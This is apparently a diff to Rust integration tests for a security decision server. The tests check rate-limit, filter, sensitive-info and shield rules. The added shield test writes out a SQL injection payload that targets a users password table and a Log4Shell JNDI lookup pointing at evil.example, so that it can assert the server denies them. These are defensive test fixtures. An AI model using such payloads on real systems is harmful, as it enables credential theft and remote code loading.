@@ -6,8 +6,8 @@ use arcjet_decide_server::{Config, Store};
 use arcjet_engine::decider::protocol::ProtocolDecider;
 use arcjet_engine::wire::v1alpha1::{
     Conclusion, DecideRequest, Decision, EmailRule, FilterRule, Mode, PromptInjectionDetectionRule,
-    RateLimitAlgorithm, RateLimitReason, RateLimitRule, Rule, RuleResult, RuleState, SensitiveInfoRule,
-    ShieldRule, reason, rule,
+    RateLimitAlgorithm, RateLimitReason, RateLimitRule, RequestDetails, Rule, RuleResult, RuleState,
+    SensitiveInfoRule, ShieldRule, reason, rule,
 };
 use arcjet_engine::{Clock, ManualClock, Timestamp};
 
@@ -180,7 +180,7 @@ async fn a_dry_run_denies_nothing() {
 #[tokio::test]
 async fn results_stand_where_their_rules_stood() {
     let (server, _) = at_noon().await;
-    // In no order of priority, with rules between that the server does not answer yet, and a custom one without a value.
+    // In no order of priority, with a custom rule, which has no value, between them.
     let live = Mode::Live.into();
     let rules = vec![
         rule(rule::Rule::PromptInjectionDetection(
@@ -202,23 +202,36 @@ async fn results_stand_where_their_rules_stood() {
         Rule::default(),
         rule(rule::Rule::Filter(FilterRule {
             mode: live,
+            deny: vec!["ip.src == 1.1.1.1".to_owned()],
             ..Default::default()
         })),
         fixed_window(7),
         rule(rule::Rule::SensitiveInfo(SensitiveInfoRule {
             mode: live,
+            deny: vec!["EMAIL".to_owned()],
             ..Default::default()
         })),
     ];
-    let decision = ask(&server, &decide("8.8.8.8", rules.clone())).await;
-    assert_eq!(decision.conclusion(), Conclusion::Allow);
+    let mut request = decide("8.8.8.8", rules.clone());
+    let details = request.details.as_mut().unwrap();
+    details.email = "ann@example.com".to_owned();
+    details.extra = [(
+        "detectPromptInjectionMessage".to_owned(),
+        "Good morning!".to_owned(),
+    )]
+    .into();
+    let response = send(server.address, proto(DECIDE, &request))
+        .await
+        .decide_response();
+    let decision = response.decision.unwrap();
+    assert_eq!(decision.conclusion(), Conclusion::Allow, "{decision:?}");
     assert_eq!(decision.rule_results.len(), rules.len());
     let ran: Vec<bool> = decision
         .rule_results
         .iter()
         .map(|result| result.state() == RuleState::Run)
         .collect();
-    assert_eq!(ran, [false, true, false, true, false, false, false, true, false]);
+    assert_eq!(ran, [true, true, true, true, true, false, true, true, false]);
     for (index, result) in decision.rule_results.iter().enumerate() {
         assert_eq!(result.conclusion(), Conclusion::Allow, "{index}");
         if !ran[index] {
@@ -232,6 +245,67 @@ async fn results_stand_where_their_rules_stood() {
         ),
         (5, 7)
     );
+    assert!(
+        response.extra["sensitive_info"].starts_with("not run"),
+        "{:?}",
+        response.extra
+    );
+}
+
+/// Text that should have stayed in the client is not judged, not even by mistake.
+#[tokio::test]
+async fn sensitive_text_is_refused() {
+    let (server, _) = at_noon().await;
+    let live = Mode::Live.into();
+    let rule = rule(rule::Rule::SensitiveInfo(SensitiveInfoRule {
+        mode: live,
+        deny: vec!["EMAIL".to_owned()],
+        ..Default::default()
+    }));
+    let mut request = decide("8.8.8.8", vec![rule]);
+    for (text, expected) in [
+        ("<redacted>", Conclusion::Allow),
+        ("write to ann@example.com", Conclusion::Error),
+    ] {
+        let details = request.details.as_mut().unwrap();
+        details.extra = [("sensitiveInfoValue".to_owned(), text.to_owned())].into();
+        let decision = ask(&server, &request).await;
+        assert_eq!(decision.conclusion(), expected, "{decision:?}");
+        assert!(!format!("{decision:?}").contains("ann@example.com"));
+    }
+}
+
+/// The request's body is judged too: some SDKs send it.
+#[tokio::test]
+async fn a_shield_sees_all_of_a_request() {
+    let (server, _) = at_noon().await;
+    let live = Mode::Live.into();
+    let shield = rule(rule::Rule::Shield(ShieldRule {
+        mode: live,
+        ..Default::default()
+    }));
+    let attack = "1' UNION SELECT password FROM users-- ";
+    let place: [fn(&mut RequestDetails, &str); 4] = [
+        |details, attack| details.query = format!("?id={}", attack.replace(' ', "%20")),
+        |details, attack| details.cookies = format!("id={attack}"),
+        |details, _| {
+            let look_up = "${jndi:ldap://evil.example/a}".to_owned();
+            details.headers.insert("x-request-id".to_owned(), look_up);
+        },
+        |details, attack| {
+            let kind = "application/x-www-form-urlencoded".to_owned();
+            details.headers.insert("content-type".to_owned(), kind);
+            "POST".clone_into(&mut details.method);
+            details.body = format!("id={}", attack.replace(' ', "+")).into();
+        },
+    ];
+    for (number, place) in place.into_iter().enumerate() {
+        let mut request = decide("8.8.8.8", vec![shield.clone()]);
+        assert_eq!(ask(&server, &request).await.conclusion(), Conclusion::Allow);
+        place(request.details.as_mut().unwrap(), attack);
+        let decision = ask(&server, &request).await;
+        assert_eq!(decision.conclusion(), Conclusion::Deny, "{number}: {decision:?}");
+    }
 }
 
 #[tokio::test]
